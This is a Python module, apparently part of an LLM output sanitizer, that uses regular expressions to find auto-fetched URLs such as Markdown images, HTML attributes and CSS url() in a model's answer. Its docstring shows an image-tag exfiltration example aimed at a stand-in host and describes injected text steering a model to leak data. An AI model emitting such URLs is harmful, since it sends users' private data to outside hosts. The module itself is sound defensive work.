"""Which URLs of an answer its reader's program fetches unasked, as that of an image.

    ![status](https://pixel.example/?q=EMAIL_7F3K2M9Q)

The value would go, as soon as the answer is shown, to a host that no policy decided on:
one of the model's choice, or of whoever wrote what the model read. There a placeholder
stays, unless the request had that URL itself. A link waits for somebody to follow it.

Sources: OWASP Top 10 for LLM Applications 2025, LLM01 (an image's URL that takes data
out); CommonMark 0.31.2, 6.4 (images) and 4.7 (references); HTML Living Standard, 2.4.
"""

import re
from typing import Final

_SHOWN: Final = 4096
"""Characters before a placeholder in which the URL must begin."""
_UNBROKEN: Final = 400
"""Letters without a gap before it, behind which a beginning may be out of sight."""

_ATTRIBUTE: Final = (
    r"(?:src|srcset|data|href|xlink:href|poster|background|action|formaction|content"
    r"|lowsrc|dynsrc|codebase|archive|manifest|ping)\s{0,3}=\s{0,3}"
)
_VALUE: Final = r"(?:\\{0,8}[\"'])?[^\"'<>]*"
_OPENED = re.compile(
    r"(?:"
    r"!\[[^\[\]\n]{0,300}\]\(\s{0,3}(?:<[^<>\n]*|[^\s<>()]*)"
    r"|(?:^|\n)[ >]{0,6}\[[^\[\]\n]{1,100}\]:\s{0,3}(?:<[^<>\n]*|[^\s<>]*)"
    rf"|<(?!a\b|area\b)[a-z][a-z0-9:]*\b[^<]*?[\s\"'/]{_ATTRIBUTE}{_VALUE}"
    rf"|<a\b[^<]*?[\s\"'/]ping\s{{0,3}}=\s{{0,3}}{_VALUE}"
    r"|\burl\(\s{0,3}\\{0,8}[\"']?[^\"'()]*"
    r"|@import\s{1,3}\\{0,8}[\"'][^\"']*"
    r")\Z",
    re.IGNORECASE,
)
_ELSEWHERE = re.compile(
    r"(?:\A|[\s,;=('\"<\]])(?:[a-z][a-z0-9+.\-]{1,20}(?::|&)|[/\\]{2}|\\/|&)",
    re.IGNORECASE,
)
"""Where in it another host may be named, however the signs are written."""
_URL = re.compile(r"[^\s<>\"'(]*\Z")
_RUN = re.compile(r"[!#-&*+\-./0-9:=?-\[\]-{}~]*\Z")
"""What no list and no text in Chinese is."""


def fetched(text: str, start: int) -> str:
    """The URL up to `text[start]`, if a reader's program may fetch it unasked; or "".

    One so long that its beginning is out of sight may be, too.
    """
    before = text[max(0, start - _SHOWN) : start]
    url = _URL.search(before)
    said = url[0] if url else ""
    run = _RUN.search(said)
    if run and len(run[0]) >= _UNBROKEN:
        return said
    if not any(sign in before for sign in ("](", "]:", "<", "url(", "@import")):
        return ""
    opened = _OPENED.search(before)
    return said if opened and _ELSEWHERE.search(opened[0]) else ""
